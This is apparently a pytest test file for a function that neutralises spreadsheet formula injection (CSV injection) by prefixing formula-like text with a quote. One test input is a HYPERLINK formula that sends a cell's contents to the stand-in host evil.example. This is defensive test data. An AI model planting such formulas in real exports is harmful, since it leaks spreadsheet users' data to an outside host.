"""Spreadsheet formula injection (OWASP CSV injection): text that a spreadsheet program would run
as a formula is written as text, while numbers stay numbers."""

from decimal import Decimal

import pytest

from core.spreadsheets import neutralise_formula, starts_like_formula


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&A2,"点击")', "=A1", "+1+2", "-1+2", "@SUM(A1)", "\t=A1", "\r=A1"],
)
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["王小明", "13900001111", "", " =A1", "a=b", "长者饭堂 - 2024"])
def test_ordinary_text_is_left_alone(value):
    assert neutralise_formula(value) == value


@pytest.mark.parametrize("value", [Decimal("-5.00"), -3, -1.5, None, True])
def test_numbers_and_other_values_are_left_alone(value):
    assert neutralise_formula(value) is value


def test_an_importer_may_allow_a_prefix_some_fields_legitimately_start_with():
    assert starts_like_formula("=A1")
    assert starts_like_formula("-1+2")
    assert not starts_like_formula("- 图书 200 册", prefixes="=+@\t\r")
